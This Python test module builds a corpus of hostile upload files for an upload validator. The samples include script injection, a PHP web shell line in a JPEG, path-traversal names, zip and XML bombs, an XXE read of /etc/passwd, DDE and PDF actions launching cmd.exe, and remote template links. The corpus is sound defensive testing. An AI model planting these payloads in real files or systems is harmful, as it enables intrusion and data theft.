"""A corpus of hostile uploads, made here: 21 classes of 6 files, each with what is to be found.

Refused at once are those whose `found` is a code of `RuleBroken`; the others are told by the look into them, `virus` by
the scanner alone.
"""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from pypdf import PdfReader, PdfWriter

from tests.ground.uploads import honest
from tests.ground.uploads.compound import compound
from tests.ground.uploads.honest import (
    chunk,
    docx_parts,
    hwp,
    hwp_streams,
    hwpx_parts,
    jpeg,
    packed,
    pdf,
    plain_pdf,
    png,
    relations,
    script,
    xlsx,
    xlsx_parts,
    zipped,
)

# The test signature of all scanners, put together here so that no scanner takes this file for it.
EICAR = base64.b64decode(
    "WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FS" + "LVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo="
)


@dataclass(frozen=True)
class Bad:
    """One file: its class, its name, its bytes, what is found."""

    kind: str
    name: str
    content: bytes
    found: str


def corpus() -> list[Bad]:
    """All of them, in the order of their classes."""
    return [
        Bad(kind, name, content, found) for kind, files in CLASSES.items() for name, content, found in files()
    ]


File = tuple[str, bytes, str]


def empty() -> Iterator[File]:
    for ending in ("pdf", "png", "jpg", "docx", "xlsx", "hwp"):
        yield f"빈 파일.{ending}", b"", "file_empty"


def cut() -> Iterator[File]:
    yield "a.pdf", pdf()[:4000], "cut_short"
    yield "a.png", png()[:-20], "cut_short"
    yield "a.jpg", honest.JPEG[:-4], "cut_short"
    yield "a.docx", zipped(docx_parts())[:500], "file_type"
    yield "a.xlsx", xlsx()[:-30], "file_type"
    yield "a.hwp", hwp()[:2000], "cut_short"


def wrong_content() -> Iterator[File]:
    yield "a.pdf", b"MZ\x90\x00" + b"\x00" * 200, "file_type"
    yield "b.pdf", png(), "file_type"
    yield "a.png", honest.JPEG, "file_type"
    yield "a.xlsx", zipped(docx_parts()), "file_type"
    yield "a.docx", compound({"EncryptedPackage": b"x" * 100, "EncryptionInfo": b"y"}), "file_type"
    yield "a.hwp", compound({"WordDocument": b"x" * 5000}), "other_content"


def pages_as_pictures() -> Iterator[File]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    page = b"<!doctype html><script>alert(1)</script>"
    yield "a.svg", svg, "file_type"
    yield "a.png", svg, "file_type"
    yield "a.jpg", page, "file_type"
    yield "a.html", page, "file_type"
    yield "a.pdf", page, "file_type"
    yield "b.jpg", b"GIF89a=1;alert(1)//", "file_type"


def two_endings() -> Iterator[File]:
    for name in ("이력서.pdf.exe", "이력서.exe.pdf", "a.pdf.js", "a.html.pdf", "a.hwp.lnk", "a.pdf .scr"):
        yield name, plain_pdf(), "file_name"


def hidden_direction() -> Iterator[File]:
    for letter in "\u202e\u2066\u200f\u202d\u200b\ufeff":
        yield f"견적서{letter}fdp.pdf", plain_pdf(), "file_name"


def control_characters() -> Iterator[File]:
    for letter in "\x00\n\t\x1b\x7f\x85":
        yield f"a{letter}.pdf", plain_pdf(), "file_name"


def ways_out() -> Iterator[File]:
    for name in (
        "../a.pdf", "../../etc/cron.d/a.pdf", "..\\a.pdf", "..\\..\\Windows\\a.pdf", "a/../../b.pdf", "C:\\x\\..\\a.pdf",
    ):  # fmt: skip
        yield name, plain_pdf(), "file_name"


def too_long() -> Iterator[File]:
    for stem in ("a" * 197, "가" * 255, "a" * 4096, "\u1100\u1161" * 197, "가 " * 150, "." * 197):
        yield f"{stem}.pdf", plain_pdf(), "file_name"


def unreadable_names() -> Iterator[File]:
    korean = "사업계획서".encode("cp949")
    yield korean.decode("utf-8", errors="replace") + ".pdf", plain_pdf(), "file_name"
    yield korean.decode("utf-8", errors="surrogateescape") + ".pdf", plain_pdf(), "file_name"
    yield "견적".encode("cp949").decode("utf-8", errors="replace") + "서.pdf", plain_pdf(), "file_name"
    yield "\ue000\ue001.pdf", plain_pdf(), "file_name"
    yield "a\ufffd.pdf", plain_pdf(), "file_name"
    yield "a\U000e0fff.pdf", plain_pdf(), "file_name"


MANY = 8 * 1024 * 1024


def bombs() -> Iterator[File]:
    zeros = b"\x00" * MANY
    yield "a.docx", zipped(docx_parts(**{"word/media/a.bin": zeros})), "unpacks"
    yield "a.hwpx", zipped(hwpx_parts(**{"BinData/a.bmp": zeros})), "unpacks"
    yield "a.xlsx", zipped(xlsx_parts(**{f"xl/media/{each}": b"" for each in range(2100)})), "file_type"
    yield "b.xlsx", _declared_small(zipped(xlsx_parts(**{"xl/a.bin": zeros}))), "unpacks"
    yield "a.pdf", plain_pdf(_stream(b"/Type/ObjStm/N 1/First 4", zeros * 5)), "unpacks"
    yield "a.png", png(4, 4, chunk(b"zTXt", b"a\x00\x00" + _deflated(zeros))), "unpacks"


def _deflated(content: bytes) -> bytes:
    return zlib.compress(content, 1)


def _declared_small(archive: bytes) -> bytes:
    """The directory says one byte where eight megabytes come out."""
    size = struct.pack("<I", MANY)
    return archive.replace(size, struct.pack("<I", 1))


def _stream(facts: bytes, content: bytes) -> bytes:
    body = _deflated(content)
    return b"<<%s/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (facts, len(body), body)


def nested() -> Iterator[File]:
    inner = zipped({"a.txt": b"x"})
    yield "a.docx", zipped(docx_parts(**{"word/media/a.zip": inner})), "inner_archive"
    yield "a.xlsx", zipped(xlsx_parts(**{"xl/media/image1.png": b"Rar!\x1a\x07\x00"})), "inner_archive"
    yield "a.hwpx", zipped(hwpx_parts(**{"BinData/a.bmp": b"7z\xbc\xaf\x27\x1c\x00"})), "inner_archive"
    yield "b.docx", zipped(docx_parts(**{"word/a.gz": b"\x1f\x8b\x08\x00"})), "inner_archive"
    deep = zipped(docx_parts(**{"word/embeddings/a.xlsx": xlsx()}))
    yield "c.docx", zipped(docx_parts(**{"word/embeddings/b.docx": deep})), "inner_archive"
    yield "a.hwp", hwp(**{"BinData/BIN0002.bmp": packed(inner)}), "inner_archive"


def polyglots() -> Iterator[File]:
    archive = zipped({"a.txt": b"x"})
    yield "a.pdf", plain_pdf() + archive, "other_content"
    yield "b.pdf", plain_pdf().replace(b"%\xe2\xe3\xcf\xd3", b"<script>alert(1)</script>"), "other_content"
    yield "c.pdf", plain_pdf() + b"<html><script>alert(1)</script></html>", "other_content"
    yield "a.jpg", honest.JPEG + archive, "other_content"
    yield "b.jpg", jpeg(1, 1, b"<?php system($_GET[0]); ?>"), "media_code"
    yield "a.png", png(4, 4, chunk(b"tEXt", b"Comment\x00<script>alert(1)</script>")), "media_code"


def pixels() -> Iterator[File]:
    yield "a.png", png(65_500, 65_500), "pixels"
    yield "b.png", png(2_147_483_647, 1), "pixels"
    yield "c.png", png(20_000, 5_001), "pixels"
    yield "a.jpg", jpeg(65_500, 65_500), "pixels"
    yield "b.jpg", jpeg(40_000, 10), "pixels"
    yield "d.png", png(0, 0), "damaged"


def pdf_that_acts() -> Iterator[File]:
    yield "a.pdf", plain_pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), "script"
    yield "b.pdf", plain_pdf(b"<</S/J#61vaScript/J#53(app.alert(1))>>"), "script"
    yield "c.pdf", plain_pdf(_stream(b"/Type/ObjStm/N 1/First 4", b"9 0 <</S/JavaScript/JS(x)>>")), "script"
    yield "d.pdf", plain_pdf(b"<</S/Launch/F(cmd.exe)>>"), "launches"
    yield "e.pdf", plain_pdf(b"<</S/SubmitForm/F(http://x.example)>>"), "launches"
    yield "f.pdf", plain_pdf(b"<</Type/Annot/Subtype/RichMedia>>"), "launches"


def pdf_that_hides() -> Iterator[File]:
    yield "a.pdf", _encrypted(plain_pdf(), "secret"), "locked"
    yield "b.pdf", plain_pdf(trailer=b"/Encrypt<</Filter/Standard/V 9>>"), "locked"
    yield "c.pdf", _encrypted(plain_pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), "", attached=True), "enclosed"
    yield "d.pdf", plain_pdf(_stream(b"/Type/EmbeddedFile", b"MZ")), "enclosed"
    yield "e.pdf", plain_pdf(b"<</Type/Annot/Subtype/FileAttachment>>"), "enclosed"
    yield "f.pdf", plain_pdf(b"<</XFA 5 0 R>>"), "form"


def _encrypted(content: bytes, password: str, *, attached: bool = False) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(content)))
    if attached:
        writer.add_attachment("a.exe", b"MZ")
    writer.encrypt(password, "owner", algorithm="RC4-128")
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def office_code() -> Iterator[File]:
    types = docx_parts()["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main", b"macroEnabled.main"
    )
    native = compound({"\x01Ole10Native": b"MZ" + b"x" * 100})
    yield "a.docx", zipped(docx_parts(**{"[Content_Types].xml": types})), "macros"
    yield "a.xlsx", zipped(xlsx_parts(**{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})), "macros"
    yield "b.docx", zipped(docx_parts(**{"word/activeX/activeX1.xml": b"<ax/>"})), "macros"
    yield "b.xlsx", zipped(xlsx_parts(**{"xl/macrosheets/sheet1.xml": b"<xm/>"})), "macros"
    yield "c.docx", zipped(docx_parts(**{"word/media/image1.png": b"MZ\x90\x00"})), "program"
    yield "d.docx", zipped(docx_parts(**{"word/embeddings/oleObject1.bin": native})), "program"


def _outside(kind: str, target: str) -> bytes:
    return relations(
        f'<Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'.encode()
    )


def office_links() -> Iterator[File]:
    settings, links = "word/_rels/settings.xml.rels", "xl/externalLinks/_rels/externalLink1.xml.rels"
    field = b'<w:p><w:instrText xml:space="preserve">DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:p>'
    dde = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield (
        "a.docx",
        zipped(docx_parts(**{settings: _outside("attachedTemplate", "https://x.example/t.dotm")})),
        "linked",
    )
    yield "b.docx", zipped(docx_parts(**{settings: _outside("image", "https://x.example/i.png")})), "linked"
    yield "c.docx", zipped(docx_parts(**{"word/document.xml": field})), "linked"
    yield "a.xlsx", zipped(xlsx_parts(**{"xl/externalLinks/externalLink1.xml": dde})), "linked"
    yield (
        "b.xlsx",
        zipped(xlsx_parts(**{links: _outside("externalLinkPath", "\\\\x.example\\share\\a.xlsx")})),
        "linked",
    )
    yield "d.docx", zipped(docx_parts(**{settings: _outside("oleObject", "file:///c:/a.exe")})), "linked"


def entities_and_names() -> Iterator[File]:
    bomb = b'<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><x>&b;</x>'
    outside = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    yield "a.docx", zipped(docx_parts(**{"word/document.xml": bomb})), "entities"
    yield "a.xlsx", zipped(xlsx_parts(**{"xl/sharedStrings.xml": outside})), "entities"
    yield "b.docx", zipped(docx_parts(**{"../../etc/a.xml": b"<x/>"})), "inner_names"
    yield "c.docx", zipped(docx_parts(**{"/etc/a.xml": b"<x/>"})), "inner_names"
    yield "b.xlsx", _korean_entry(), "inner_names"
    yield "d.docx", zipped(docx_parts(**{"WORD/DOCUMENT.XML": b"<x/>"})), "inner_names"


def _korean_entry() -> bytes:
    """An entry whose name is written in CP949, as old packers do."""
    return zipped(xlsx_parts(**{"xl/NAME.xml": b"<x/>"})).replace(b"NAME", "이름".encode("cp949"))


def hwp_parts() -> Iterator[File]:
    code = honest.STUB + 'function OnDocument_Open2() { new ActiveXObject("WScript.Shell").Run("calc"); }'
    native = b"\x00\x00\x00\x00" + compound({"\x01Ole10Native": b"MZ" + b"x" * 100})
    yield "a.hwp", hwp(**{"Scripts/DefaultJScript": packed(script(code))}), "script"
    yield "b.hwp", compound(hwp_streams(link=0)), "linked"
    yield "c.hwp", compound(hwp_streams(flags=3)), "locked"
    yield "d.hwp", hwp(**{"BinData/BIN0002.OLE": packed(native)}), "program"
    yield "e.hwp", _in_circles(hwp()), "damaged"
    yield "f.hwp", hwp(**{"BinData/BIN0002.eps": packed(b"%!PS-Adobe-3.0 EPSF-3.0")}), "program"


def _in_circles(content: bytes) -> bytes:
    """The chain of the folder leads back to its beginning."""
    (first,) = struct.unpack_from("<I", content, 48)
    (table,) = struct.unpack_from("<I", content, 76)
    at = 512 + table * 512 + first * 4
    return content[:at] + struct.pack("<I", first) + content[at + 4 :]


def hwpx_package() -> Iterator[File]:
    listed = hwpx_parts()["Contents/content.hpf"]
    far = listed.replace(b'href="BinData/image1.png"', b'href="https://x.example/i.png"')
    beside = listed.replace(b'isEmbeded="1"', b'isEmbeded="0"')
    code = 'var x = new ActiveXObject("WScript.Shell");'.encode("utf-16-le")
    wide = '<!DOCTYPE x [<!ENTITY a "aa">]><x>&a;</x>'.encode("utf-16-le")
    bomb = b'<!DOCTYPE x [<!ENTITY a "aa">]><hs:sec>&a;</hs:sec>'
    yield "a.hwpx", zipped(hwpx_parts(**{"Contents/content.hpf": far})), "linked"
    yield "b.hwpx", zipped(hwpx_parts(**{"Contents/content.hpf": beside})), "linked"
    yield "c.hwpx", zipped(hwpx_parts(**{"Scripts/sourceScripts": code})), "script"
    yield "d.hwpx", zipped(hwpx_parts(**{"Contents/section0.xml": bomb})), "entities"
    yield "e.hwpx", zipped(hwpx_parts(**{"Contents/header.xml": wide})), "entities"
    yield "f.hwpx", zipped(hwpx_parts(mimetype=b"application/x-msdownload")), "other_content"


def infected() -> Iterator[File]:
    stored = zipfile.ZIP_STORED
    yield "a.pdf", plain_pdf(b"<</Length %d>>stream\n%s\nendstream" % (len(EICAR), EICAR)), "virus"
    yield "a.docx", zipped(docx_parts(**{"word/media/a.bin": EICAR}), stored), "virus"
    yield "a.xlsx", zipped(xlsx_parts(**{"xl/media/a.bin": EICAR}), stored), "virus"
    yield "a.hwpx", zipped(hwpx_parts(**{"BinData/a.bin": EICAR}), stored), "virus"
    yield "a.jpg", jpeg(1, 1, EICAR), "virus"
    yield "b.pdf", EICAR, "file_type"


CLASSES = {
    "nothing in it": empty,
    "cut short": cut,
    "another content": wrong_content,
    "pages as pictures": pages_as_pictures,
    "two endings": two_endings,
    "hidden direction": hidden_direction,
    "control characters": control_characters,
    "ways out of the folder": ways_out,
    "too long a name": too_long,
    "unreadable name": unreadable_names,
    "bombs": bombs,
    "archives inside": nested,
    "two types at once": polyglots,
    "too many pixels": pixels,
    "PDF that acts": pdf_that_acts,
    "PDF that hides": pdf_that_hides,
    "macros and programs": office_code,
    "links out of DOCX and XLSX": office_links,
    "XML bombs and names inside": entities_and_names,
    "HWP": hwp_parts,
    "HWPX": hwpx_package,
    "EICAR": infected,
}

__all__ = ["CLASSES", "EICAR", "Bad", "corpus"]
